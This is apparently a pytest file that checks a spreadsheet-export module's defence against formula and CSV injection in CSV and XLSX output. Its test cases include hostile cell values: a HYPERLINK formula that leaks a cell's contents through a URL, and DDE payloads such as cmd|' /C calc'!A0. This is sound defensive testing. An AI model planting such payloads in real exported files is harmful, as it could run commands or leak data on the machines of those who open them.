"""warehouse.spreadsheet: the one neutralising function and the CSV/XLSX writers every Netra file goes through."""

import io

import pandas as pd
import pytest
from openpyxl import load_workbook

from warehouse.spreadsheet import csv_bytes, frame_rows, neutralise, restore, xlsx_bytes


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://x/?q="&A1,"klik")', '\'=HYPERLINK("http://x/?q="&A1,"klik")'),
        ("+62 812", "'+62 812"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("   =1+1", "'   =1+1"),  # after leading spaces
        ("\xa0=1+1", "'\xa0=1+1"),  # after a non-breaking space
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\nx", "'\nx"),
        ("cmd|' /C calc'!A0", "'cmd|' /C calc'!A0"),  # DDE without '='
        ("  msexcel|'\\..\\x'!''", "'  msexcel|'\\..\\x'!''"),
        ("Kabupaten Batang", "Kabupaten Batang"),
        ("a=b", "a=b"),
        ("Budi | Siti", "Budi | Siti"),  # a bar without a DDE target is text
        ("", ""),
        (-2, -2),
        (None, None),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


@pytest.mark.parametrize("text", ["=1+1", "-", "  @x", "cmd|' /C calc'!A0", "'quoted", "Kab. Batang"])
def test_restore_gives_back_what_neutralise_was_given(text):
    assert restore(neutralise(text)) == text


def test_restore_keeps_an_apostrophe_the_register_wrote():
    assert restore("'Ahmad") == "'Ahmad"


FRAME = pd.DataFrame({"Baris": [7, 9], "Uraian": ['=HYPERLINK("http://x")', None], "Alasan": ["-", "ok"]})


def test_csv_neutralises_every_cell_and_writes_blanks_for_missing():
    text = csv_bytes(frame_rows(FRAME), notes=["=catatan"]).decode("utf-8-sig")
    assert text.split("\r\n") == ["'=catatan", "", "Baris,Uraian,Alasan", '7,"\'=HYPERLINK(""http://x"")",\'-',
                                  "9,,ok", ""]


def test_xlsx_cells_are_strings_never_formulas():
    book = load_workbook(io.BytesIO(xlsx_bytes([("Ditolak", frame_rows(FRAME))], header_rows=[1])))
    sheet = book["Ditolak"]
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [
        ["Baris", "Uraian", "Alasan"], [7, '\'=HYPERLINK("http://x")', "'-"], [9, None, "ok"]]
    assert sheet["B2"].data_type == "s" and sheet.freeze_panes == "A2" and sheet["A1"].font.bold
